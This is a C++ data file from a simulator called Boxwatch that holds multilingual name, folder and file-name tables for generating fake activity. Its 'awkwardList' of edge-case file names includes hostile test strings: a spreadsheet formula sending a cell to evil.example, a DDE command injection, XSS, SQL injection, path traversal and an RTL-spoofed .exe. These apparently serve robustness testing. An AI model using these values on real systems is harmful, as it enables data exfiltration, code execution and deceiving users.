// SPDX-FileCopyrightText: Boxwatch contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "simulator/names.h"

#include "simulator/timeline.h"

#include <array>

namespace boxwatch::sim {

namespace {

using Part = PartOfName;
using Text = std::string_view;

constexpr Part englishGiven[] = {
    {"Mara", "mara"},       {"Jonas", "jonas"},   {"Priya", "priya"},     {"Samuel", "samuel"},
    {"Grace", "grace"},     {"Liam", "liam"},     {"Olivia", "olivia"},   {"Noah", "noah"},
    {"Emma", "emma"},       {"Ava", "ava"},       {"Ethan", "ethan"},     {"Zoë", "zoe"},
    {"José", "jose"},       {"Chloe", "chloe"},   {"Amara", "amara"},     {"Diego", "diego"},
    {"Hannah", "hannah"},   {"Tyrone", "tyrone"}, {"Siobhán", "siobhan"}, {"Marcus", "marcus"},
    {"Leilani", "leilani"}, {"Wei", "wei"},       {"Fatima", "fatima"},   {"Robert", "robert"}};
constexpr Part englishFamily[] = {
    {"Okafor", "okafor"},
    {"Lindqvist", "lindqvist"},
    {"Rivers", "rivers"},
    {"Nguyen", "nguyen"},
    {"García", "garcia"},
    {"Smith", "smith"},
    {"Johnson", "johnson"},
    {"O'Brien", "obrien"},
    {"Williams", "williams"},
    {"Patel", "patel"},
    {"Kim", "kim"},
    {"Hernández", "hernandez"},
    {"Walker", "walker"},
    {"Young", "young"},
    {"Adeyemi", "adeyemi"},
    {"Clarke", "clarke"},
    {"Murphy", "murphy"},
    {"Kowalski", "kowalski"},
    {"Fitzgerald-Moore", "fitzgeraldmoore"},
    {"Sato", "sato"},
    {"Thompson", "thompson"},
    {"Baker", "baker"},
    {"Castellanos", "castellanos"},
    {"Reyes", "reyes"}};
constexpr Text englishFolders[] = {
    "Finance",
    "Payroll",
    "Marketing",
    "Legal",
    "Contracts",
    "Board",
    "Product roadmap",
    "Customer success",
    "Recruiting",
    "Facilities",
    "IT operations",
    "Security",
    "Sales – West",
    "Partners",
    "Quarterly reports",
    "Design assets",
    "Onboarding",
    "Research",
    "Audit 2026",
    "Vendor management",
    "Press kit",
    "Engineering specs",
    "Travel & expenses",
    "Mergers and acquisitions",
    "Project Nightingale",
    "Archive",
    "🚀 Launch",
    "Training videos"};
constexpr Text englishFiles[] = {
    "Q1 forecast",
    "Price list",
    "Salaries",
    "NDA",
    "Meeting notes",
    "Board deck",
    "Statement of work",
    "Master services agreement",
    "Invoice",
    "Budget",
    "Org chart",
    "Brand guidelines",
    "Press release",
    "Security review",
    "Roadmap",
    "Customer interview",
    "Expense report",
    "Offer letter",
    "Incident report",
    "Risk register",
    "Launch plan 🚀",
    "Data export",
    "Floor plan",
    "Performance review",
    "Purchase order",
    "Training handout",
    "Résumé",
    "IMG",
    "Screen recording",
    "Architecture overview"};

constexpr Part germanGiven[] = {
    {"Jürgen", "juergen"}, {"Anke", "anke"},         {"Sören", "soeren"},  {"Käthe", "kaethe"},
    {"Lukas", "lukas"},    {"Marie", "marie"},       {"Élodie", "elodie"}, {"François", "francois"},
    {"Bjørn", "bjorn"},    {"Ingrid", "ingrid"},     {"Zofia", "zofia"},   {"Łukasz", "lukasz"},
    {"Chiara", "chiara"},  {"Giuseppe", "giuseppe"}, {"Núria", "nuria"},   {"Maarten", "maarten"}};
constexpr Part germanFamily[] = {
    {"Müller", "mueller"},          {"Schröder", "schroeder"}, {"Weiß", "weiss"},
    {"Dupont", "dupont"},           {"Lefèvre", "lefevre"},    {"Østergård", "ostergard"},
    {"van den Berg", "vandenberg"}, {"Wójcik", "wojcik"},      {"Rossi", "rossi"},
    {"D'Angelo", "dangelo"},        {"Bauer", "bauer"},        {"Krüger", "krueger"},
    {"Ferrer", "ferrer"},           {"Lindgren", "lindgren"}};
constexpr Text germanFolders[] = {
    "Buchhaltung",
    "Personal",
    "Verträge",
    "Geschäftsführung",
    "Vertrieb Süd",
    "Qualitätssicherung",
    "Comptabilité",
    "Ressources humaines",
    "Juridique",
    "Projekt Größe",
    "Einkauf",
    "Werbung",
    "Recherche et développement",
    "Zarządzanie",
    "Acquisti"};
constexpr Text germanFiles[] = {"Rechnung",      "Jahresabschluss",       "Prüfbericht",
                                "Angebot",       "Besprechungsprotokoll", "Übersicht",
                                "Kündigung",     "Reisekostenabrechnung", "Facture",
                                "Procès-verbal", "Contrat de travail",    "Bilan annuel",
                                "Gehaltsliste",  "Lieferschein",          "Umowa o pracę",
                                "Preventivo",    "Präsentation",          "Maßnahmenplan"};

constexpr Part levantGiven[] = {{"נועה", "noa"},     {"איתי", "itai"},   {"יעל", "yael"},
                                {"דוד", "david"},    {"תמר", "tamar"},   {"محمد", "mohamed"},
                                {"فاطمة", "fatima"}, {"أحمد", "ahmed"},  {"ليلى", "layla"},
                                {"يوسف", "youssef"}, {"مريم", "maryam"}, {"אבי", "avi"}};
constexpr Part levantFamily[] = {
    {"כהן", "cohen"},         {"לוי", "levi"},   {"מזרחי", "mizrahi"},   {"פרץ", "peretz"},
    {"عبد الله", "abdallah"}, {"حسن", "hassan"}, {"الخطيب", "alkhatib"}, {"منصور", "mansour"},
    {"שפירא", "shapira"},     {"نجار", "najjar"}};
constexpr Text levantFolders[] = {"כספים",       "משאבי אנוש",      "חוזים",  "שיווק",
                                  "المالية",     "الموارد البشرية", "العقود", "التسويق",
                                  "פרויקט אלון", "تقارير ربع سنوية"};
constexpr Text levantFiles[] = {"דוח שנתי",  "הצעת מחיר",      "חוזה עבודה", "סיכום ישיבה",
                                "תקציב",     "تقرير المبيعات", "عقد العمل",  "محضر الاجتماع",
                                "الميزانية", "قائمة الأسعار",  "חשבונית",    "فاتورة"};

constexpr Part cyrillicGiven[] = {{"Иван", "ivan"},           {"Елена", "elena"},
                                  {"Олександр", "oleksandr"}, {"Ганна", "hanna"},
                                  {"Димитър", "dimitar"},     {"Мария", "maria"},
                                  {"Сергій", "serhii"},       {"Наталія", "nataliia"},
                                  {"Георги", "georgi"},       {"Дарина", "daryna"}};
constexpr Part cyrillicFamily[] = {{"Иванов", "ivanov"},       {"Петрова", "petrova"},
                                   {"Шевченко", "shevchenko"}, {"Коваленко", "kovalenko"},
                                   {"Димитров", "dimitrov"},   {"Бондар", "bondar"},
                                   {"Тодорова", "todorova"},   {"Мельник", "melnyk"}};
constexpr Text cyrillicFolders[] = {"Бухгалтерия", "Договори", "Персонал", "Маркетинг",
                                    "Проєкти",     "Звіти",    "Архив",    "Закупівлі"};
constexpr Text cyrillicFiles[] = {
    "Отчёт",       "Договор",    "Рахунок",   "Протокол наради",  "Бюджет",
    "Презентация", "Список цен", "Заявление", "Графік відпусток", "Счёт-фактура"};

constexpr Part indianGiven[] = {
    {"Aarav", "aarav"},     {"Ananya", "ananya"},   {"Rohan", "rohan"}, {"Deepika", "deepika"},
    {"Vikram", "vikram"},   {"Lakshmi", "lakshmi"}, {"अमित", "amit"},   {"सुनीता", "sunita"},
    {"Karthik", "karthik"}, {"Meera", "meera"}};
constexpr Part indianFamily[] = {{"Sharma", "sharma"},     {"Iyer", "iyer"},
                                 {"Reddy", "reddy"},       {"Gupta", "gupta"},
                                 {"शर्मा", "sharma"},       {"Nair", "nair"},
                                 {"Banerjee", "banerjee"}, {"Krishnamurthy", "krishnamurthy"}};
constexpr Text indianFolders[] = {"Shared services",   "Support tickets",  "Release builds",
                                  "Test evidence",     "Accounts payable", "वित्त",
                                  "Offshore delivery", "Compliance"};
constexpr Text indianFiles[] = {
    "Test report",        "Release notes", "Ticket export",  "Timesheet",  "Handover",
    "Regression results", "मासिक रिपोर्ट",  "Service review", "Access log", "Runbook"};

constexpr Part chineseGiven[] = {{"伟", "wei"},       {"芳", "fang"},     {"娜", "na"},
                                 {"秀英", "xiuying"}, {"敏", "min"},      {"静", "jing"},
                                 {"强", "qiang"},     {"磊", "lei"},      {"洋", "yang"},
                                 {"志明", "zhiming"}, {"雨桐", "yutong"}, {"浩然", "haoran"}};
constexpr Part chineseFamily[] = {
    {"王", "wang"}, {"李", "li"},   {"张", "zhang"}, {"刘", "liu"},  {"陈", "chen"},
    {"杨", "yang"}, {"赵", "zhao"}, {"黄", "huang"}, {"周", "zhou"}, {"欧阳", "ouyang"}};
constexpr Text chineseFolders[] = {"财务部", "人力资源", "合同",     "市场推广", "研发",
                                   "采购",   "项目资料", "季度报告", "客户资料", "归档"};
constexpr Text chineseFiles[] = {"财务报表", "采购合同", "会议纪要", "产品路线图",
                                 "报价单",   "预算",     "员工名单", "验收报告",
                                 "发票",     "设计稿",   "培训资料", "客户访谈记录"};

constexpr Part japaneseGiven[] = {{"愛子", "aiko"},    {"健太", "kenta"},  {"さくら", "sakura"},
                                  {"大輔", "daisuke"}, {"美咲", "misaki"}, {"翔", "sho"},
                                  {"陽菜", "hina"},    {"拓也", "takuya"}, {"由美子", "yumiko"},
                                  {"ケンジ", "kenji"}};
constexpr Part japaneseFamily[] = {{"田中", "tanaka"},    {"佐藤", "sato"},      {"鈴木", "suzuki"},
                                   {"高橋", "takahashi"}, {"渡辺", "watanabe"},  {"伊藤", "ito"},
                                   {"山本", "yamamoto"},  {"小林", "kobayashi"}, {"齋藤", "saito"}};
constexpr Text japaneseFolders[] = {"経理", "人事", "契約書",         "営業資料", "議事録",
                                    "開発", "稟議", "プロジェクト桜", "取引先",   "研修"};
constexpr Text japaneseFiles[] = {"見積書",         "請求書",   "議事録",       "稟議書",
                                  "2026年度予算案", "組織図",   "提案資料",     "業務委託契約書",
                                  "勤怠表",         "売上報告", "スケジュール", "マニュアル"};

constexpr std::array<NamesOfRegion, regionCount> regions{{
    {englishGiven, englishFamily, false, englishFolders, englishFiles},
    {englishGiven, englishFamily, false, englishFolders, englishFiles},
    {englishGiven, englishFamily, false, englishFolders, englishFiles},
    {germanGiven, germanFamily, false, germanFolders, germanFiles},
    {levantGiven, levantFamily, false, levantFolders, levantFiles},
    {cyrillicGiven, cyrillicFamily, false, cyrillicFolders, cyrillicFiles},
    {indianGiven, indianFamily, false, indianFolders, indianFiles},
    {chineseGiven, chineseFamily, true, chineseFolders, chineseFiles},
    {japaneseGiven, japaneseFamily, true, japaneseFolders, japaneseFiles},
    {englishGiven, englishFamily, false, englishFolders, englishFiles},
}};

constexpr Text qualifierList[] = {"",        "",           "",        "",  " v",
                                  " final ", " – copy ",   " draft ", "_", "-",
                                  " 2026-",  " (signed) ", " rev. "};

constexpr Text extensionList[] = {".pdf",     ".pdf",  ".docx", ".docx", ".xlsx", ".xlsx",
                                  ".pptx",    ".jpg",  ".png",  ".txt",  ".csv",  ".zip",
                                  ".boxnote", ".gdoc", ".mp4",  ".dwg",  ".eml",  ".json"};

constexpr Text awkwardList[] = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+1.xlsx",
    "+1 (555) 010-0199 call list.txt", "-draft- pricing.docx", "@SUM(1+1)*cmd|' /C calc'!A0.csv",
    "two\nlines.txt", "carriage\rreturn.txt", "tab\there.csv", "say \"hello\", world.docx",
    "<img src=x onerror=alert(1)>.html", "<b>bold</b><a href=\"file:///etc/passwd\">x</a>.pdf",
    // NOLINTNEXTLINE(misc-misleading-bidirectional): to mislead is what it is for
    "invoice\u202Efdp.exe", "zero\xe2\x80\x8bwidth.pdf", "   ", "back\\slash\\path.txt",
    "semi;colon;list.csv", "café decomposé e\xcc\x81.txt",
    "👩‍👩‍👧‍👦 family photo.jpg", "%s%n%d.log", "&amp;&lt;entity&gt;.txt",
    "'; DROP TABLE events; --.sql", "C:\\temp\\..\\..\\secret.txt",
    "\x7f"
    "delete.bin",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝓉𝑒𝓍𝓉.md", "ﷺ ligature.docx",
    "\x01"
    "control.txt"};

} // namespace

const NamesOfRegion &namesOf(int region)
{
    return regions[static_cast<std::size_t>(region)];
}

std::span<const std::string_view> qualifiers()
{
    return qualifierList;
}

std::span<const std::string_view> extensions()
{
    return extensionList;
}

std::span<const std::string_view> awkwardNames()
{
    return awkwardList;
}

} // namespace boxwatch::sim
